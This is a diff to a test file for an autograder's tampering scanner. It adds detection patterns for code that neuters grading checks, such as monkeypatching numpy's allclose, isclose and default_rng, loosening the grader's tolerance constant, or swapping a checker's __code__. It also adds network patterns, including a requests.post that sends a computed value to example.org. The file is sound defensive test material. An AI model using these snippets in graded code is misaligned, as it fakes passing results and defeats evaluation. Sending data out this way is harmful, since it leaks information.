@@ -639,6 +639,19 @@ TAMPERING = [
     ("math.isfinite = lambda x: True", "replaces library functions"),
     ("setattr(np, 'allclose', lambda *a: True)", "replaces library functions"),
     ("import builtins\nbuiltins.float = int", "replaces library functions"),
+    ("np.random.default_rng = lambda *a: None", "replaces library functions"),
+    ("import numpy\nnumpy.testing.assert_allclose = lambda *a, **k: None", "replaces library functions"),
+    ("setattr(np.linalg, 'norm', abs)", "replaces library functions"),
+    ("import numpy.testing as npt\nnpt.assert_allclose = print", "replaces library functions"),
+    ("from numpy import random as r\nr.default_rng = print", "replaces library functions"),
+    ("random_module = np.random\nrandom_module.Generator.normal = print", "replaces library functions"),
+    ("vars(np)['isclose'] = print", "replaces library functions"),
+    ("np.__dict__['isclose'] = print", "replaces library functions"),
+    ("del np.random.default_rng", "replaces library functions"),
+    ("import backprop_checks as check\ncheck.RTOL_EXACT = 1.0", "replaces library functions"),
+    ("from backprop_checks import _close as c\nc.__code__ = (lambda *a: True).__code__", "replaces library functions"),
+    ("%%time\nmath.pi = 3", "replaces library functions"),
+    ("%time np.random.default_rng = print", "replaces library functions"),
     ("import otter.test_files", "reaches into otter's test runner"),
     ("from otter.execute import grade_notebook", "reaches into otter's test runner"),
     ("ExceptionTestFile.run = lambda *a: None", "reaches into otter's test runner"),
@@ -654,6 +667,9 @@ TAMPERING = [
     ("os.dup2(3, 1)", "writes to raw file descriptors or reaches other processes"),
     ("os.kill(1, 9)", "writes to raw file descriptors or reaches other processes"),
     ("open('/proc/self/fd/1', 'w')", "writes to raw file descriptors or reaches other processes"),
+    ("import socket", "reaches for the network"),
+    ("from urllib.request import urlopen", "reaches for the network"),
+    ("import requests\nrequests.post('http://example.org', data=str(f0))", "reaches for the network"),
 ]
 
 
@@ -674,7 +690,11 @@ def test_scan_for_tampering_reports_each_reason_once_in_order() -> None:
 
 @pytest.mark.parametrize("source", [
     "if np.pi == 3.14: pass", "x = np.zeros(3)", "import os\nos.path.join('a', 'b')", "results = [1]",
-    "signals = 1", "pickled_value = 2", "def __init__(self): pass",
+    "signals = 1", "pickled_value = 2", "def __init__(self): pass", "# the grader requests the values",
+    "np.random.seed(0)\nrng = np.random.default_rng(0)\nrng.bit_generator.state = rng.bit_generator.state",
+    "weights = np.zeros((2, 2))\nweights[0, 0] = 1\nweights.shape = (4,)", "a = np.pi\nb = [a]\nb[0] = 2",
+    "np.set_printoptions(precision=3)\nimport numpy.linalg as la\nnorm = la.norm(np.ones(2))",
+    "from math import pi\nx = pi\ncircle = {}\ncircle['r'] = x",
 ])
 def test_scan_for_tampering_leaves_honest_code(source: str) -> None:
     assert scan_for_tampering([Cell(source, ())]) == []
